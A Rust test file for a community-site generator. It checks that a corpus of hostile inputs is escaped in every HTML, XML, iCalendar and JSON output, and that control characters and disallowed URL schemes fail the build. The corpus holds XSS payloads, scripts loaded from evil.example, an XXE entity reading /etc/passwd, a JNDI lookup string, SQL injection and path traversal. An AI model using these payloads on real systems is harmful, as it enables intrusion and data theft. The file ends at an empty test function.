//! Hostile input (issue 6): a corpus of strings made to break out of every context shequn
//! writes — HTML text and attributes, `<script>` JSON-LD, Atom and sitemap XML,
//! iCalendar TEXT, JSON — placed in every text and URL field of every kind of record.
//!
//! - **Accepted** strings (markup, quotes, break-outs, bidi controls, long strings, …)
//!   go into one site: string `i` fills every field of member `m{i}`, speaker `s{i}`,
//!   chapter `c{i}`, series `se{i}`, event `e{i}` (venue and talk included) and pages
//!   `p{i}` and `t{i}`; the charter's values, roles, rules and tiers hold one string each,
//!   its other fields all of them joined. The site title, charter name and tagline are on
//!   every page, so they hold all the strings joined in a second, small build. The site
//!   must build, and every output file must pass `checks` (HTML parsed
//!   by html5ever, XML, iCalendar, JSON, paths); names, titles and summaries must read
//!   back whole from the page text, the JSON-LD, the `.ics` and the feed, which shows
//!   they were escaped, not dropped.
//!   Built twice: with `raw_html = "none"` every Markdown field holds the string too;
//!   with the default policy, raw HTML passes in the organisers' Markdown (content, the
//!   charter, events, chapters, series) by design, so there those fields hold plain text
//!   and the string goes in every plain field and in member and speaker bios, which the
//!   SPEC says are escaped.
//! - **Refused** values (control characters, lone surrogates, URL schemes outside the
//!   allow-list, Markdown links to them) go into every field of one site at once: the
//!   build must fail with an error at each value's `FILE:LINE:COL`, in one run, and leave
//!   the previous output byte-identical with no staging folder beside it.

use std::collections::BTreeMap;

use crate::checks;
use crate::support::{tree, Run, Site};

/// Accepted text: each must build, escaped in every output.
fn accepted_text() -> Vec<String> {
    let fixed = [
        // Markup and script in text.
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<script src=//evil.example/x.js></script>",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=\"javascript:alert(1)\">",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text y=\"20\">x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"jAvAsCrIpT:alert(1)\">click</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"javascript&#58;alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<form action=\"javascript:alert(1)\"><button>go</button></form>",
        "<button formaction=\"javascript:alert(1)\">go</button>",
        "<details open ontoggle=alert(1)>",
        "<body onload=alert(1)>",
        "<x onclick=alert(1)>click</x>",
        "<style>*{background:url(javascript:alert(1))}</style>",
        "<link rel=stylesheet href=javascript:alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<input autofocus onfocus=alert(1)>",
        "<!--<img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "</textarea><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "<plaintext>",
        "<xmp><script>alert(1)</script></xmp>",
        // Attribute break-outs.
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "\" onmouseover=\"alert(1)",
        "' onmouseover='alert(1)",
        "'onmouseover=alert(1) '",
        "\" autofocus onfocus=\"alert(1)",
        "` onmouseover=alert(1) `",
        "\"/><svg onload=alert(1)>",
        "&quot; onmouseover=&quot;alert(1)",
        "&#34;><script>alert(1)</script>",
        "x\" style=\"background:url(javascript:alert(1))",
        // JSON-LD break-outs.
        "</script><script>alert(1)</script>",
        "</SCRIPT ><script>alert(1)</script>",
        "</script\t><script>alert(1)</script>",
        "<!--<script>",
        "\"}]}</script><script>alert(1)</script>",
        "\\u003c/script\\u003e",
        "\\\"",
        "a\u{2028}b\u{2029}c",
        // XML break-outs.
        "]]>",
        "<![CDATA[",
        "&amp;",
        "&nbsp; &copy; &unknown;",
        "&#0; &#x1; &#xFFFE;",
        "<?xml version=\"1.0\"?>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
        "</title></entry></feed>",
        "</loc></url></urlset>",
        // iCalendar break-outs (a CR is a control character: refused below).
        "\nDTSTART:19700101T000000Z",
        "\nEND:VEVENT\nBEGIN:VEVENT\nUID:evil",
        "x\nEND:VCALENDAR",
        "a;b,c\\d",
        "\\n\\,\\;",
        "SUMMARY:evil",
        ":;,",
        // Templates, other encodings, other injections.
        "{{ 7*7 }}",
        "{% raw %}{% endraw %}",
        "{# comment #}",
        "${jndi:ldap://evil.example/a}",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\\x3cscript\\x3e",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "' OR 1=1 --",
        "../../etc/passwd",
        "C:\\Windows\\system32",
        "\\\\server\\share",
        "javascript:alert(1)",
        "@member/m0",
        // Markdown that must not make markup where raw HTML is escaped.
        "# Heading {onclick=alert(1) .x #y}",
        "*a* _b_ `c` **<b>**",
        "[link](https://ok.example/\"onmouseover=\"alert(1))",
        "![img](https://ok.example/x.png\"onerror=\"alert(1))",
        "<https://ok.example/?a=<script>>",
        "[^1]\n\n[^1]: <script>alert(1)</script>",
        "| a | <script> |\n|---|---|\n| 1 | 2 |",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "> <script>alert(1)</script>",
        "- [ ] <img src=x onerror=alert(1)>",
        // Unicode.
        "\u{202e}evil\u{202c} gnp.exe",
        "\u{2066}x\u{2069} \u{200f}rtl",
        "zero\u{200b}width\u{200c}join\u{200d}",
        "\u{feff}bom",
        "e\u{301} and \u{e9}",
        "𝒜𝓁𝓅𝒽𝒶 👩\u{200d}👩\u{200d}👧 🏳\u{fe0f}\u{200d}🌈",
        "مرحبا بالعالم",
        "שלום",
        "社群 <脚本> “引号” 《书名》",
        "\u{fdd0}\u{e000}\u{10ffff}",
        "\t tab \t",
    ];
    let mut out: Vec<String> = fixed.iter().map(|s| s.to_string()).collect();
    out.extend([
        "a".repeat(10_000),
        "中".repeat(3_000),
        "<".repeat(500),
        "&".repeat(500),
        "\"'".repeat(300),
        "x ".repeat(2_000),
    ]);
    out
}

/// Accepted URLs (allowed schemes or site paths) full of specials, for URL fields.
const ACCEPTED_URLS: [&str; 14] = [
    "https://x.example/\"><script>alert(1)</script>",
    "https://x.example/?q=<script>alert(1)</script>&a='b'",
    "https://x.example/' onmouseover='alert(1)",
    "https://x.example/#</script><script>alert(1)</script>",
    "https://x.example/]]>",
    "mailto:a@b.example?subject=</script>&body=\"x\"",
    "/local/\"><svg onload=alert(1)>",
    "http://x.example/\u{202e}/",
    "https://例子.example/路径?q=中文",
    "HTTPS://X.EXAMPLE/UPPER",
    "https://user:pass@x.example/{{7*7}}",
    "https://x.example/a;b,c:d",
    "https://x.example/&amp;&lt;",
    "https://x.example/DTSTART:x;VALUE=DATE:1",
];

/// What the model makes of a one-line field: trimmed, runs of white space one space.
fn one_line(s: &str) -> String {
    s.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// A TOML basic string holding `text` exactly.
fn toml_str(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            c if c.is_control() => out.push_str(&format!("\\u{:04X}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// A file being written line by line, remembering where values go.
struct File {
    path: String,
    lines: Vec<String>,
}

impl File {
    fn new(path: &str) -> File {
        File {
            path: path.into(),
            lines: Vec::new(),
        }
    }

    fn raw(&mut self, line: &str) {
        self.lines.push(line.to_string());
    }

    /// `key = VALUE` (`value` already TOML); returns `PATH:LINE:COL` of the value.
    fn put(&mut self, key: &str, value: &str) -> String {
        self.lines.push(format!("{key} = {value}"));
        format!(
            "{}:{}:{}",
            self.path,
            self.lines.len(),
            key.chars().count() + 4
        )
    }

    /// `key = "text"`.
    fn text(&mut self, key: &str, text: &str) -> String {
        self.put(key, &toml_str(text))
    }

    /// `PATH:LINE:COL` of `needle` in the last line.
    fn find_last(&self, needle: &str) -> String {
        let line = self.lines.last().expect("a line");
        let at = line.find(needle).expect("needle in line");
        format!(
            "{}:{}:{}",
            self.path,
            self.lines.len(),
            line[..at].chars().count() + 1
        )
    }

    fn write(self, site: &Site) {
        site.write(&self.path, &(self.lines.join("\n") + "\n"));
    }
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Policy {
    /// `raw_html = "none"`: the corpus in every Markdown field too.
    None,
    /// The default: organisers' Markdown holds plain text; bios hold the corpus.
    Default,
}

/// Which part of the corpus a build holds.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Part {
    /// Every string in the records; the site title, charter name and tagline, which are
    /// on every page, short.
    Records,
    /// The site title, charter name and tagline holding every string, with a few records.
    SiteWide,
}

/// Writes the accepted-corpus site.
fn accepted_site(policy: Policy, part: Part) -> Site {
    let strings = accepted_text();
    let site = Site::empty();
    // The charter and settings exist once and are on every page: they hold every string
    // but the very long ones (those are in every record field), or each page would weigh
    // hundreds of kilobytes.
    let joined = strings
        .iter()
        .filter(|s| s.len() < 300)
        .cloned()
        .collect::<Vec<_>>()
        .join(" | ");
    let trusted = |s: &str| match policy {
        Policy::None => s.to_string(),
        Policy::Default => "Plain organiser text.".to_string(),
    };
    let url = |i: usize| ACCEPTED_URLS[i % ACCEPTED_URLS.len()];
    // Images may not hold `\`, `%` or `..`; every accepted URL above has none.
    let image = |i: usize| ACCEPTED_URLS[(i + 3) % ACCEPTED_URLS.len()];

    let mut config = File::new("shequn.toml");
    config.raw("base_url = \"https://club.example.org/sub/\"");
    let site_wide = |text: &str| match part {
        Part::Records => "Hostile club".to_string(),
        Part::SiteWide => text.to_string(),
    };
    config.text("title", &site_wide(&joined));
    config.raw("timezone = \"Asia/Shanghai\"");
    if policy == Policy::None {
        config.raw("[markdown]");
        config.raw("raw_html = \"none\"");
    }
    config.raw("[extra]");
    config.text("note", &joined);
    config.write(&site);

    let mut charter = File::new("charter.md");
    charter.raw("+++");
    charter.text("name", &site_wide(&format!("Club {joined}")));
    charter.text("tagline", &site_wide(&joined));
    charter.text("purpose", &trusted(&joined));
    charter.text("audience", &trusted(&joined));
    charter.raw("values = [");
    for s in &strings {
        charter.raw(&format!(
            "  {{ name = {}, description = {} }},",
            toml_str(&format!("V {s}")),
            toml_str(&trusted(s))
        ));
    }
    charter.raw("]");
    charter.raw("[extra]");
    charter.text("note", &joined);
    for (i, s) in strings.iter().enumerate() {
        charter.raw("[[roles]]");
        charter.text("id", &format!("r{i}"));
        charter.text("title", &format!("R{i} {s}"));
        charter.text("description", s);
    }
    for (i, s) in strings.iter().enumerate() {
        charter.raw("[[rules]]");
        charter.text("id", &format!("rule{i}"));
        charter.text("title", &format!("Rule {s}"));
        charter.text("text", &trusted(s));
    }
    charter.raw("[membership]");
    charter.raw("open = false");
    charter.text("threshold", &trusted(&joined));
    charter.text("apply_url", url(0));
    for s in &strings {
        charter.raw("[[membership.tiers]]");
        charter.text("name", &format!("Tier {s}"));
        charter.text("price", s);
        charter.text("perks", &trusted(s));
    }
    charter.raw("+++");
    charter.raw(&trusted(&joined));
    charter.write(&site);

    let records = match part {
        Part::Records => strings.len(),
        Part::SiteWide => 3,
    };
    for (i, s) in strings.iter().enumerate().take(records) {
        // A tag is a URL segment, at most 200 bytes (refused beyond: see below).
        let tag = format!("{} t{i}", s.chars().take(40).collect::<String>());
        let mut m = File::new(&format!("members/m{i}.toml"));
        m.text("name", &format!("M{i} {s}"));
        m.text("role", &format!("r{i}"));
        m.raw("joined = 2024-01-01");
        m.text("chapter", &format!("c{i}"));
        m.text("city", s);
        m.put("tags", &format!("[{}]", toml_str(&tag)));
        m.text("headline", s);
        m.text("bio", s);
        m.text("avatar", image(i));
        m.raw("[links]");
        m.text("website", url(i));
        m.put(&toml_str(s), &toml_str(url(i + 1)));
        m.raw("[extra]");
        m.text("note", s);
        m.write(&site);

        let mut sp = File::new(&format!("speakers/s{i}.toml"));
        sp.text("name", &format!("S{i} {s}"));
        sp.text("headline", s);
        sp.text("bio", s);
        sp.text("avatar", image(i + 1));
        sp.raw("[links]");
        sp.text("website", url(i + 2));
        sp.put(&toml_str(s), &toml_str(url(i)));
        sp.raw("[extra]");
        sp.text("note", s);
        sp.write(&site);

        let mut c = File::new(&format!("chapters/c{i}.toml"));
        c.text("name", &format!("C{i} {s}"));
        c.text("city", s);
        c.text("description", &trusted(s));
        c.put("organizers", &format!("[\"m{i}\"]"));
        c.raw("founded = 2023-05-06");
        c.raw("[links]");
        c.text("website", url(i + 3));
        c.put(&toml_str(s), &toml_str(url(i + 4)));
        c.raw("[extra]");
        c.text("note", s);
        c.write(&site);

        let mut se = File::new(&format!("series/se{i}.toml"));
        se.text("name", &format!("SE{i} {s}"));
        se.text("description", &trusted(s));
        se.text("cadence", s);
        se.raw("[extra]");
        se.text("note", s);
        se.write(&site);

        let mut e = File::new(&format!("events/e{i}.toml"));
        e.text("title", &format!("E{i} {s}"));
        // Half upcoming, half past; one a day so every list has them all.
        let day = jiff::civil::date(2026, 6, 1)
            .checked_add(jiff::Span::new().days(i as i64 * 3))
            .unwrap();
        e.raw(&format!("start = {day}T19:00:00"));
        e.raw(&format!("end = {day}T21:30:00"));
        e.text("series", &format!("se{i}"));
        e.raw("number = 1");
        e.text("chapter", &format!("c{i}"));
        e.text("online_url", url(i + 5));
        e.put("hosts", &format!("[\"m{i}\"]"));
        e.text("rsvp_url", url(i + 6));
        e.raw("capacity = 40");
        e.text("summary", s);
        e.text("description", &trusted(s));
        e.text("cover", image(i + 2));
        e.put("tags", &format!("[{}]", toml_str(&tag)));
        e.raw("[venue]");
        e.text("name", s);
        e.text("address", s);
        e.text("city", s);
        e.text("map_url", url(i + 7));
        e.raw("[[talks]]");
        e.text("title", &format!("T{i} {s}"));
        e.put("speakers", &format!("[\"s{i}\", \"m{i}\"]"));
        e.text("abstract", &trusted(s));
        e.text("slides", url(i + 8));
        e.text("video", url(i + 9));
        e.text("transcript", &format!("@/t/t{i}.md"));
        e.text("language", s);
        e.raw("[extra]");
        e.text("note", s);
        e.write(&site);

        for (folder, extra) in [("p", String::new()), ("t", format!("event = \"e{i}\"\n"))] {
            let mut p = File::new(&format!("content/{folder}/{folder}{i}.md"));
            p.raw("+++");
            p.text("title", &format!("P{i} {s}"));
            p.raw("date = 2026-02-03");
            p.text("summary", s);
            p.put("tags", &format!("[{}]", toml_str(&tag)));
            p.put("authors", &format!("[\"m{i}\"]"));
            p.raw(extra.trim_end());
            p.raw("[extra]");
            p.text("note", s);
            p.raw("+++");
            p.raw(&trusted(s));
            p.write(&site);
        }
    }
    site.write(
        "content/_index.md",
        &format!("+++\ntitle = \"Home\"\n+++\n{}\n", trusted(&joined)),
    );
    site
}

/// The `src` of the theme's own scripts, under the site's path.
fn theme_scripts() -> Vec<String> {
    shequn::theme::builtin_static()
        .into_iter()
        .filter(|(p, _)| p.ends_with(".js"))
        .map(|(p, _)| format!("/sub/{p}"))
        .collect()
}

fn html_text(html: &str) -> String {
    let doc = scraper::Html::parse_document(html);
    doc.root_element().text().collect()
}

fn json_ld(html: &str) -> Vec<serde_json::Value> {
    let doc = scraper::Html::parse_document(html);
    let selector = scraper::Selector::parse("script[type=\"application/ld+json\"]").unwrap();
    doc.select(&selector)
        .map(|s| serde_json::from_str(&s.text().collect::<String>()).unwrap())
        .collect()
}

/// Builds the accepted corpus and checks every output file and the read-backs.
fn accepted_corpus_builds_and_escapes(policy: Policy, part: Part) {
    let mut strings = accepted_text();
    assert!(strings.len() >= 100, "{} strings", strings.len());
    let site = accepted_site(policy, part);
    let run = site.build().ok();
    let files = tree(&run.output);
    let problems = checks::tree_problems(&files, &theme_scripts());
    assert!(
        problems.is_empty(),
        "{} problems:\n{}",
        problems.len(),
        problems[..problems.len().min(40)].join("\n")
    );
    if part == Part::SiteWide {
        site_wide_read_backs(&run, &files, &strings);
        strings.truncate(3);
    }
    read_backs(&run, &files, &strings);
}

/// The site title and charter name read back whole from the home page, its JSON-LD, the
/// feed and the calendar.
fn site_wide_read_backs(run: &Run, files: &BTreeMap<String, Vec<u8>>, strings: &[String]) {
    let joined = strings
        .iter()
        .filter(|s| s.len() < 300)
        .cloned()
        .collect::<Vec<_>>()
        .join(" | ");
    let title = one_line(&joined);
    let home = run.page("/");
    let doc = scraper::Html::parse_document(&home);
    let selector = scraper::Selector::parse("title").unwrap();
    let shown: String = doc.select(&selector).next().unwrap().text().collect();
    assert!(shown.contains(&title), "<title> of the home page");
    assert_eq!(
        json_ld(&home)[0]["name"],
        one_line(&format!("Club {joined}"))
    );
    let feed = feed_rs::parser::parse(&files["feed.xml"][..]).expect("feed.xml parses");
    assert_eq!(feed.title.unwrap().content, title);
    let ics = String::from_utf8(files["calendar.ics"].clone()).unwrap();
    let cal: icalendar::Calendar = ics.parse().expect("calendar.ics parses");
    assert!(
        cal.get_name().is_some_and(|n| n.contains(&title)),
        "X-WR-CALNAME of calendar.ics"
    );
}

/// Names, titles and summaries read back whole from pages, JSON-LD, calendars and feed.
fn read_backs(run: &Run, files: &BTreeMap<String, Vec<u8>>, strings: &[String]) {
    let feed = feed_rs::parser::parse(&files["feed.xml"][..]).expect("feed.xml parses");
    let feed_titles: BTreeMap<String, String> = feed
        .entries
        .iter()
        .map(|e| (e.id.clone(), e.title.as_ref().unwrap().content.clone()))
        .collect();
    let mut feed_checked = 0;
    for (i, s) in strings.iter().enumerate() {
        let member = run.page(&format!("/members/m{i}/"));
        let name = one_line(&format!("M{i} {s}"));
        assert!(
            html_text(&member).contains(&name),
            "member m{i}'s name does not read back"
        );
        let person = json_ld(&member);
        assert_eq!(person[0]["name"], name, "JSON-LD of m{i}");

        let event = run.page(&format!("/events/e{i}/"));
        let title = one_line(&format!("E{i} {s}"));
        assert!(html_text(&event).contains(&title), "e{i}'s title");
        assert_eq!(json_ld(&event)[0]["name"], title, "JSON-LD of e{i}");
        let ics = String::from_utf8(files[&format!("events/e{i}/event.ics")].clone()).unwrap();
        let cal: icalendar::Calendar = ics.parse().expect("event.ics parses");
        let vevent = cal
            .components
            .iter()
            .find_map(|c| match c {
                icalendar::CalendarComponent::Event(e) => Some(e),
                _ => None,
            })
            .expect("a VEVENT");
        use icalendar::Component;
        assert_eq!(
            vevent.get_summary(),
            Some(title.as_str()),
            "SUMMARY of e{i}"
        );
        let description = vevent.get_description().unwrap_or("");
        assert!(
            description.starts_with(&one_line(s)) || one_line(s).is_empty(),
            "DESCRIPTION of e{i} does not start with its summary: {description:?}"
        );
        let id = format!("https://club.example.org/sub/events/e{i}/");
        if let Some(t) = feed_titles.get(&id) {
            assert_eq!(*t, title, "feed title of e{i}");
            feed_checked += 1;
        }
        let page = run.page(&format!("/p/p{i}/"));
        assert!(html_text(&page).contains(&one_line(&format!("P{i} {s}"))));
    }
    assert!(
        feed_checked >= strings.len().min(10),
        "only {feed_checked} events in the feed"
    );
}

#[test]
fn hostile_strings_in_every_record_field_are_escaped_with_raw_html_none() {
    accepted_corpus_builds_and_escapes(Policy::None, Part::Records);
}

#[test]
fn hostile_strings_in_every_record_field_are_escaped_under_the_default_policy() {
    accepted_corpus_builds_and_escapes(Policy::Default, Part::Records);
}

#[test]
fn hostile_strings_in_site_wide_fields_are_escaped_with_raw_html_none() {
    accepted_corpus_builds_and_escapes(Policy::None, Part::SiteWide);
}

#[test]
fn hostile_strings_in_site_wide_fields_are_escaped_under_the_default_policy() {
    accepted_corpus_builds_and_escapes(Policy::Default, Part::SiteWide);
}

/// Refused text: control characters (CR included: CRLF in a file is fine, a `\r` escape
/// in a value is not), U+FFFE and U+FFFF.
const REFUSED_TEXT: [&str; 14] = [
    "a\u{0}b",
    "\u{1}",
    "bell\u{7}",
    "back\u{8}space",
    "\u{b}vertical tab",
    "form\u{c}feed",
    "\r",
    "\r\nDTSTART:19700101T000000Z",
    "\u{1b}[31mred",
    "del\u{7f}",
    "next\u{85}line",
    "csi\u{9b}",
    "\u{fffe}",
    "\u{ffff}",
];

/// Refused URLs (BAD-INPUTS row 11 and more).
const REFUSED_URLS: [&str; 16] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript&#58;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https://x.example/\r\nDTSTART:x",
    "ftp://x.example/",
    "blob:https://x.example/1",
    "about:blank",
    "jar:https://x.example/!/",
    "https://x.example/\u{0}",
];

/// Markdown whose link or image destination is refused: the target to look for in the
/// file, and the Markdown.
const REFUSED_LINKS: [(&str, &str); 9] = [
    ("javascript:alert(1)", "[x](javascript:alert(1))"),
    ("JaVaScRiPt:alert(1)", "see [x](JaVaScRiPt:alert(1))"),
    ("javascript:alert(1)", "<javascript:alert(1)>"),
    ("data:text/html,hi", "![x](data:text/html,hi)"),
    ("vbscript:msgbox(1)", "[x](vbscript:msgbox(1))"),
    ("file:///etc/passwd", "[x](file:///etc/passwd)"),
    ("//evil.example/", "[x](//evil.example/)"),
    ("javascript:alert(1)", "[x](<javascript:alert(1)>)"),
    // Written with an entity, the target is not in the file as decoded: the link is marked.
    (
        "[x](javascript&#58;alert(1))",
        "[x](javascript&#58;alert(1))",
    ),
];

/// Where the refused values of a run went, by `PATH:LINE:COL`.
struct Expected {
    locations: Vec<String>,
    n: usize,
}

impl Expected {
    fn text(&mut self) -> &'static str {
        self.n += 1;
        REFUSED_TEXT[self.n % REFUSED_TEXT.len()]
    }

    fn url(&mut self) -> &'static str {
        self.n += 1;
        REFUSED_URLS[self.n % REFUSED_URLS.len()]
    }

    fn link(&mut self) -> (&'static str, &'static str) {
        self.n += 1;
        REFUSED_LINKS[self.n % REFUSED_LINKS.len()]
    }

    /// A plain field with a control character.
    fn plain(&mut self, f: &mut File, key: &str) {
        let v = self.text();
        let loc = f.text(key, &format!("x{v}"));
        self.locations.push(loc);
    }

    /// A URL field with a refused URL.
    fn url_field(&mut self, f: &mut File, key: &str) {
        let v = self.url();
        let loc = f.text(key, v);
        self.locations.push(loc);
    }

    /// A Markdown field: alternately a control character and a refused link.
    fn markdown(&mut self, f: &mut File, key: &str) {
        if self.n % 2 == 0 {
            self.plain(f, key);
        } else {
            let (target, md) = self.link();
            f.text(key, md);
            self.locations.push(f.find_last(target));
        }
    }
}

/// A site with a refused value in every field of every record kind.
fn refused_site(site: &Site) -> Expected {
    let mut x = Expected {
        locations: Vec::new(),
        n: 0,
    };
    site.write(
        "shequn.toml",
        "base_url = \"https://club.example.org/sub/\"\ntimezone = \"Asia/Shanghai\"\n",
    );
    let mut ch = File::new("charter.md");
    ch.raw("+++");
    ch.text("name", "Club");
    x.plain(&mut ch, "tagline");
    x.markdown(&mut ch, "purpose");
    x.markdown(&mut ch, "audience");
    ch.raw("[[values]]");
    x.plain(&mut ch, "name");
    x.markdown(&mut ch, "description");
    ch.raw("[[roles]]");
    ch.text("id", "organizer");
    x.plain(&mut ch, "title");
    ch.raw("[[roles]]");
    ch.text("id", "member");
    ch.text("title", "Member");
    x.plain(&mut ch, "description");
    ch.raw("[[rules]]");
    ch.text("id", "kind");
    x.plain(&mut ch, "title");
    ch.raw("[[rules]]");
    ch.text("id", "calm");
    ch.text("title", "Calm");
    x.markdown(&mut ch, "text");
    ch.raw("[membership]");
    x.markdown(&mut ch, "threshold");
    x.url_field(&mut ch, "apply_url");
    ch.raw("[[membership.tiers]]");
    x.plain(&mut ch, "name");
    ch.raw("[[membership.tiers]]");
    ch.text("name", "Tier");
    x.plain(&mut ch, "price");
    x.markdown(&mut ch, "perks");
    ch.raw("+++");
    ch.raw("Body with a [bad link](javascript:alert(9)).");
    x.locations.push(ch.find_last("javascript:alert(9)"));
    ch.raw("Body with a control character: \u{7}.");
    x.locations.push(ch.find_last("\u{7}"));
    ch.write(site);

    for n in 0..2 {
        let mut m = File::new(&format!("members/m{n}.toml"));
        if n == 0 {
            x.plain(&mut m, "name");
            x.plain(&mut m, "city");
            x.plain(&mut m, "headline");
            x.markdown(&mut m, "bio");
            x.url_field(&mut m, "avatar");
        } else {
            m.text("name", "Member");
            let v = x.text();
            let loc = m.put("tags", &format!("[{}]", toml_str(&format!("t{v}"))));
            // The value inside `[`.
            let (path_line, col) = loc.rsplit_once(':').unwrap();
            x.locations
                .push(format!("{path_line}:{}", col.parse::<usize>().unwrap() + 1));
            x.markdown(&mut m, "bio");
        }
        m.raw("[links]");
        x.url_field(&mut m, "website");
        let v = x.text();
        // A link label (a key, without a span of its own) is reported at its value.
        let loc = m.put(&toml_str(&format!("label{v}")), "\"https://ok.example/\"");
        x.locations.push(loc);
        m.write(site);
    }

    let mut sp = File::new("speakers/s0.toml");
    x.plain(&mut sp, "name");
    x.plain(&mut sp, "headline");
    x.markdown(&mut sp, "bio");
    x.url_field(&mut sp, "avatar");
    sp.raw("[links]");
    x.url_field(&mut sp, "website");
    sp.write(site);
    let mut sp = File::new("speakers/s1.toml");
    sp.text("name", "Speaker");
    x.markdown(&mut sp, "bio");
    sp.write(site);

    let mut c = File::new("chapters/c0.toml");
    x.plain(&mut c, "name");
    x.plain(&mut c, "city");
    x.markdown(&mut c, "description");
    c.raw("[links]");
    x.url_field(&mut c, "website");
    c.write(site);

    let mut se = File::new("series/se0.toml");
    x.plain(&mut se, "name");
    x.markdown(&mut se, "description");
    x.plain(&mut se, "cadence");
    se.write(site);
    let mut se = File::new("series/se1.toml");
    se.text("name", "Series");
    x.markdown(&mut se, "description");
    se.write(site);

    let mut e = File::new("events/e0.toml");
    x.plain(&mut e, "title");
    e.raw("start = 2026-12-01T19:00:00");
    x.url_field(&mut e, "online_url");
    x.url_field(&mut e, "rsvp_url");
    x.plain(&mut e, "summary");
    x.markdown(&mut e, "description");
    x.url_field(&mut e, "cover");
    let v = x.text();
    let loc = e.put("tags", &format!("[{}]", toml_str(&format!("t{v}"))));
    let (path_line, col) = loc.rsplit_once(':').unwrap();
    x.locations
        .push(format!("{path_line}:{}", col.parse::<usize>().unwrap() + 1));
    e.raw("[venue]");
    x.plain(&mut e, "name");
    x.plain(&mut e, "address");
    x.plain(&mut e, "city");
    x.url_field(&mut e, "map_url");
    e.raw("[[talks]]");
    x.plain(&mut e, "title");
    x.markdown(&mut e, "abstract");
    x.url_field(&mut e, "slides");
    x.url_field(&mut e, "video");
    x.plain(&mut e, "language");
    e.raw("[[talks]]");
    e.text("title", "Talk");
    x.markdown(&mut e, "abstract");
    e.write(site);

    let mut p = File::new("content/p0.md");
    p.raw("+++");
    x.plain(&mut p, "title");
    x.plain(&mut p, "summary");
    // A tag too long for a file name (70 characters, 210 bytes).
    let long = "标签".repeat(35);
    let loc = p.put("tags", &format!("[\"ok\", {}]", toml_str(&long)));
    let (path_line, col) = loc.rsplit_once(':').unwrap();
    x.locations
        .push(format!("{path_line}:{}", col.parse::<usize>().unwrap() + 7));
    p.raw("+++");
    p.raw("[x](vbscript:msgbox(2)) and ![y](data:image/png;base64,AAAA)");
    x.locations.push(p.find_last("vbscript:msgbox(2)"));
    x.locations.push(p.find_last("data:image/png;base64,AAAA"));
    p.raw("");
    p.raw("[ref][r] with a control \u{1b} character");
    x.locations.push(p.find_last("\u{1b}"));
    p.raw("");
    p.raw("[r]: javascript:alert(3)");
    x.locations.push(p.find_last("javascript:alert(3)"));
    p.write(site);

    // Lone surrogates cannot be TOML escapes: the file does not parse.
    site.write("members/lone-high.toml", "name = \"\\uD800\"\n");
    x.locations.push("members/lone-high.toml:1:".into());
    site.write(
        "speakers/lone-low.toml",
        "name = \"ok\"\nbio = \"a\\uDFFFb\"\n",
    );
    x.locations.push("speakers/lone-low.toml:2:".into());
    x
}

#[test]
fn refused_values_in_every_field_fail_the_build_at_each_value_and_write_nothing() {
    let site = Site::empty();
    // A good build first: the refused one must leave it byte-identical.
    site.write(
        "shequn.toml",
        "base_url = \"https://club.example.org/sub/\"\n",
    );
    site.write("charter.md", "+++\nname = \"Club\"\n+++\nHello.\n");
    let before = tree(&site.build().ok().output);
    assert!(before.len() > 5);

    let expected = refused_site(&site);
    let run = site.build().fails();
    let mut missing = Vec::new();
    for loc in &expected.locations {
        let wanted = if loc.ends_with(':') {
            loc.clone()
        } else {
            format!("{loc}: ")
        };
        if !run.stderr.contains(&wanted) {
            missing.push(loc.clone());
        }
    }
    assert!(
        missing.is_empty(),
        "no error at {missing:#?}\nstderr:\n{}",
        run.stderr
    );
    let errors: usize = regex::Regex::new(r"(\d+) errors?, ")
        .unwrap()
        .captures(&run.stderr)
        .and_then(|c| c[1].parse().ok())
        .expect("a count line");
    assert!(
        errors >= expected.locations.len(),
        "{errors} errors for {} refused values",
        expected.locations.len()
    );
    assert_eq!(before, tree(&site.public()), "the output changed");
    let beside: Vec<String> = std::fs::read_dir(site.tmp())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(beside.len(), 2, "left beside the output: {beside:?}");
}

#[test]
fn site_settings_with_a_control_character_or_markup_in_base_url_are_refused() {
